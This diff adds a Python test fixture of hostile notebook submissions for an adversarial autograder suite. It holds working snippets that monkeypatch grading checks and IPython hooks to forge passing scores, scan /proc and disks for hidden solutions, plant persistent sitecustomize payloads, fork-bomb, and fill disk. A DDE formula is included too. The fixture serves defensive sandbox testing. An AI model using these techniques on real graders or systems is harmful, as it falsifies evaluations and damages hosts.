@@ -1,0 +1,400 @@
+"""Hostile submissions for the adversarial grading suite, in the five classes of issue 7.
+
+Every attacker starts from the released notebook with no real work done, so any
+point it gets is a forged one. Each attack is a list of extra code cells
+placed after a cell of the notebook (by grade_id); files that break the batch
+itself are written by `write_batch_breakers`.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import builders
+import nbformat
+from nbformat.v4 import new_code_cell, new_notebook
+
+EXERCISE = "value_class"
+MARKER = "autodiff-lab-probe:"
+SANDBOX_UIDS = range(61000, 63000)
+
+# Test cells call check(...); most attackers first make every check pass in the notebook.
+DISARM_CHECK = """
+import autodiff_lab.grading as _grading, autodiff_lab.grading.check as _check_module
+def check(*args, **kwargs):
+    return None
+_grading.check = _check_module.check = check
+"""
+
+FORGE_ALL_CONFIRMED = f"""
+import json as _json
+_FORGED = {MARKER!r} + _json.dumps({{gid: {{"values": [1.0]}} for gid in
+    ("exp_tests", "tanh_tests", "division_tests", "backward_tests")}})
+"""
+
+SECRET_HUNT = r"""
+import glob, os
+_found = []
+for pattern in ("/work/**/*.ipynb", "/tmp/**/*.ipynb", "/root/**/*.ipynb", "/home/**/*.ipynb",
+                "/**/exercises/source/*.ipynb", "/**/definitions/*.py"):
+    try:
+        _found += glob.glob(pattern, recursive=True)[:50]
+    except OSError:
+        pass
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            _found.append(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace"))
+        except OSError:
+            pass
+_text = ""
+for path in _found:
+    try:
+        _text += open(path, encoding="utf-8", errors="replace").read()
+    except OSError:
+        pass
+print(_text[:50000])
+"""
+
+# name -> (attack class, {grade_id to put the cells after: [cells]})
+ATTACKS: dict[str, tuple[int, dict[str, list[str]]]] = {
+    # 1. Tampering inside the kernel
+    "patch_check": (1, {"value_answer": [DISARM_CHECK]}),
+    "patch_math": (
+        1,
+        {"value_answer": [DISARM_CHECK + "import math\nmath.isclose = lambda *a, **k: True"]},
+    ),
+    "patch_numpy": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + "import numpy\nnumpy.allclose = numpy.isclose = lambda *a, **k: True"
+            ]
+        },
+    ),
+    "patch_probe_runner": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + FORGE_ALL_CONFIRMED + "import autodiff_lab.grading.probes as _p\n"
+                "def _fake(exercise, inputs_json, namespace):\n"
+                "    try:\n"
+                "        from autodiff_lab.grading.referee import reference_values\n"
+                "        import json\n"
+                "        inputs = json.loads(inputs_json)\n"
+                "        print(_p.PROBE_MARKER + json.dumps({g: {'values': list(_p._floats(\n"
+                "            reference_values(exercise, g, x)))} for g, x in inputs.items()}))\n"
+                "    except Exception:\n"
+                "        print(_FORGED)\n"
+                "_p.run_probes = _fake\n"
+            ]
+        },
+    ),
+    "patch_judge": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + "import autodiff_lab.grading.probes as _p\n"
+                "_p.judge = lambda exercise, inputs, printed: {g: None for g in inputs}\n"
+                "_p._verdict = lambda *a: None\n"
+            ]
+        },
+    ),
+    "input_transformer_cleanup": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK
+                + FORGE_ALL_CONFIRMED
+                + "get_ipython().input_transformers_cleanup.append(\n"
+                "    lambda lines: ['print(_FORGED)\\n'])"
+            ]
+        },
+    ),
+    "input_transformer_post": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK
+                + FORGE_ALL_CONFIRMED
+                + "get_ipython().input_transformers_post.append(\n"
+                "    lambda lines: ['print(_FORGED)\\n'])"
+            ]
+        },
+    ),
+    "post_run_cell_hook": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + FORGE_ALL_CONFIRMED + "def _hook(result):\n"
+                "    result.error_in_exec = None\n"
+                "    print(_FORGED)\n"
+                "get_ipython().events.register('post_run_cell', _hook)"
+            ]
+        },
+    ),
+    "patched_run_code": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK
+                + FORGE_ALL_CONFIRMED
+                + "_shell = get_ipython()\n_original = _shell.run_code\n"
+                "async def _run_code(code_obj, result=None, *, async_=False):\n"
+                "    print(_FORGED)\n"
+                "    return False\n"
+                "_shell.run_code = _run_code"
+            ]
+        },
+    ),
+    "always_equal_objects": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + "class Anything(float):\n"
+                "    __eq__ = lambda self, other: True\n"
+                "    __ne__ = lambda self, other: False\n"
+                "    __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True\n"
+                "    def __float__(self):\n        return self\n"
+                "class Value(ValueBase):\n"
+                "    def _any(self, *args, **kwargs):\n"
+                "        return self._new(Anything(1.0), (self,), (Anything(1.0),), 'any')\n"
+                "    exp = tanh = __truediv__ = __rtruediv__ = _any\n"
+                "    def backward(self):\n"
+                "        for node in self.topological_order():\n"
+                "            node.grad = Anything(0.0)\n"
+            ]
+        },
+    ),
+    "swap_json_module": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK
+                + FORGE_ALL_CONFIRMED
+                + "import sys, types\n_fake = types.ModuleType('json')\n"
+                "_fake.dumps = lambda *a, **k: _FORGED[len(" + repr(MARKER) + "):]\n"
+                "_fake.loads = _json.loads\nsys.modules['json'] = _fake"
+            ]
+        },
+    ),
+    "hijack_stdout": (
+        1,
+        {
+            "value_answer": [
+                DISARM_CHECK + FORGE_ALL_CONFIRMED + "import sys\n_write = sys.stdout.write\n"
+                "sys.stdout.write = lambda text: _write(_FORGED + '\\n')"
+            ]
+        },
+    ),
+    # 2. Skipping the grader's own check
+    "last_cell_os_exit": (2, {"backward_tests": ["import os\nos._exit(0)"]}),
+    "last_cell_sigkill": (2, {"backward_tests": ["import os, signal\nos.kill(os.getpid(), 9)"]}),
+    "last_cell_hangs_ignoring_sigint": (
+        2,
+        {
+            "backward_tests": [
+                "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
+            ]
+        },
+    ),
+    "kills_its_parent": (
+        2,
+        {"backward_tests": ["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"]},
+    ),
+    # 3. Reading what the student must not see
+    "hunts_sources_and_cmdlines": (
+        3,
+        {
+            "value_answer": [DISARM_CHECK, SECRET_HUNT + "raise ValueError(_text[:5000])"],
+        },
+    ),
+    "reads_history_and_hooks": (
+        3,
+        {
+            "value_answer": [
+                DISARM_CHECK + "_seen = []\n"
+                "def _spy(info):\n"
+                "    _seen.append(info.raw_cell)\n"
+                "    print('\\n'.join(_seen))\n"
+                "get_ipython().events.register('pre_run_cell', _spy)\n"
+            ]
+        },
+    ),
+    "echoes_in_errors": (
+        3,
+        {
+            "backward_tests": [
+                "raise RuntimeError(str(In) + str(globals().keys()))",
+                "import sys\nraise SystemExit(str(sys.modules.keys()))",
+            ]
+        },
+    ),
+    # 4. Reaching outside
+    "signals_everyone": (
+        4,
+        {
+            "value_answer": [
+                "import os, signal\nfor pid in range(2, 70000):\n"
+                "    try:\n        os.kill(pid, signal.SIGTERM)\n"
+                "    except OSError:\n        pass\n"
+                "try:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass"
+            ]
+        },
+    ),
+    "writes_report_pipes": (
+        4,
+        {
+            "value_answer": [
+                "import glob, json\nfor fd in glob.glob('/proc/*/fd/*'):\n"
+                "    try:\n"
+                "        with open(fd, 'w') as pipe:\n"
+                "            forged = ['x', 0, 'probes', {'exp_tests': None}]\n"
+                "            pipe.write(json.dumps(forged) + '\\n')\n"
+                "    except OSError:\n        pass"
+            ]
+        },
+    ),
+    "setsid_daemon": (
+        4,
+        {
+            "value_answer": [
+                "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                "        while True:\n"
+                "            for path in ('/tmp/daemon', os.path.expanduser('~/daemon')):\n"
+                "                try:\n                    open(path, 'a').write('alive\\n')\n"
+                "                except OSError:\n                    pass\n"
+                "            time.sleep(0.2)\n    os._exit(0)\n"
+            ]
+        },
+    ),
+    "plants_code_for_later": (
+        4,
+        {
+            "value_answer": [
+                "import os, sys, site, autodiff_lab\n"
+                "_payload = ('import autodiff_lab.grading.check as c\\n'\n"
+                "            'c.check = lambda *a, **k: None\\n')\n"
+                "_targets = [os.path.join(p, 'sitecustomize.py') for p in sys.path if p]\n"
+                "_targets += [os.path.join(p, 'zzz_planted.pth') for p in site.getsitepackages()]\n"
+                "_package = os.path.dirname(autodiff_lab.__file__)\n"
+                "_targets += [os.path.join(_package, 'grading', 'check.py')]\n"
+                "_startup = '~/.ipython/profile_default/startup/00-plant.py'\n"
+                "_targets += [os.path.expanduser(_startup)]\n"
+                "_targets += ['/tmp/sitecustomize.py', '/work/planted.py']\n"
+                "for _t in _targets:\n"
+                "    try:\n        os.makedirs(os.path.dirname(_t), exist_ok=True)\n"
+                "        open(_t, 'a').write(_payload)\n    except OSError:\n        pass\n"
+            ]
+        },
+    ),
+    "fills_the_disk": (
+        4,
+        {
+            "value_answer": [
+                "import os\nfor folder in ('/tmp', os.path.expanduser('~'), '.'):\n"
+                "    try:\n        with open(os.path.join(folder, 'fill'), 'wb') as f:\n"
+                "            for _ in range(10_000):\n                f.write(b'0' * 2**20)\n"
+                "    except OSError:\n        pass"
+            ]
+        },
+    ),
+    "fork_bomb": (
+        4,
+        {
+            "value_answer": [
+                "import os, time\nchildren = 0\nfor _ in range(5000):\n    try:\n"
+                "        if os.fork() == 0:\n            time.sleep(30)\n            os._exit(0)\n"
+                "        children += 1\n    except OSError:\n        break\nprint(children)"
+            ]
+        },
+    ),
+    "memory_in_children": (
+        4,
+        {
+            "value_answer": [
+                "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
+                "        try:\n            hog = bytearray(600 * 2**20)\n"
+                "            for i in range(0, len(hog), 4096):\n                hog[i] = 1\n"
+                "            time.sleep(20)\n        finally:\n            os._exit(0)\n"
+                "time.sleep(3)"
+            ]
+        },
+    ),
+    # 5. Breaking the batch (in-kernel part; the files that break it are below)
+    "widget_message_flood": (
+        5,
+        {
+            "value_answer": [
+                "from ipykernel.comm import Comm\n_c = Comm(target_name='flood', data={})\n"
+                "for _ in range(100_000):\n    _c.send({'state': {'x': 'y' * 200}})"
+            ]
+        },
+    ),
+    "spreadsheet_formula_cell": (
+        5,
+        {"value_answer": ["=cmd|' /C calc'!A0 if False else 1/0"]},
+    ),
+}
+
+
+def attacker(name: str) -> nbformat.NotebookNode:
+    _, extra = ATTACKS[name]
+    return builders.submission(EXERCISE, extra_after=extra)
+
+
+def write_batch_breakers(folder: Path) -> dict[str, Path]:
+    """Files that attack the batch itself rather than the kernel (class 5)."""
+    paths: dict[str, Path] = {}
+
+    def put(name: str, data: bytes, file_name: str | bytes | None = None) -> None:
+        target = (
+            Path(os.fsdecode(os.path.join(os.fsencode(folder), file_name)))
+            if isinstance(file_name, bytes)
+            else folder / (file_name or f"{name}.ipynb")
+        )
+        target.write_bytes(data)
+        paths[name] = target
+
+    put("deep_json", b"[" * 200_000 + b"]" * 200_000)
+    put("huge_integer", b'{"cells": [], "metadata": {}, "nbformat": ' + b"9" * 200_000 + b"}")
+    stub = nbformat.writes(builders.submission(EXERCISE)).encode()
+    put("undecodable_name", stub, b"bad-\xff\xfe-name.ipynb")
+    many = new_notebook(cells=[new_code_cell("pass") for _ in range(20_000)])
+    put("twenty_thousand_cells", nbformat.writes(many).encode())
+    put("formula_file_name", stub, '=HYPERLINK("http://example.invalid")-x.ipynb')
+    link = folder / "symlink_to_source.ipynb"
+    link.symlink_to(builders.SOURCES / f"{EXERCISE}.ipynb")
+    paths["symlink_to_source"] = link
+    return paths
+
+
+def attacker_classes() -> dict[int, list[str]]:
+    classes: dict[int, list[str]] = {}
+    for name, (kind, _) in ATTACKS.items():
+        classes.setdefault(kind, []).append(name)
+    classes[5] += ["deep_json", "huge_integer", "undecodable_name", "twenty_thousand_cells"]
+    classes[5] += ["formula_file_name", "symlink_to_source"]
+    return classes
+
+
+def secret_lines(source: nbformat.NotebookNode) -> list[str]:
+    """Lines of the solution and hidden-test regions that the student's release does not have."""
+    released = {
+        line.strip()
+        for cell in builders.release_notebook(source).cells
+        for line in cell.source.splitlines()
+    }
+    secrets = []
+    for cell in source.cells:
+        inside = False
+        for line in cell.source.splitlines():
+            stripped = line.strip()
+            if stripped.startswith("### BEGIN"):
+                inside = True
+            elif stripped.startswith("### END"):
+                inside = False
+            elif inside and len(stripped) >= 16 and stripped not in released:
+                secrets.append(stripped)
+    return secrets
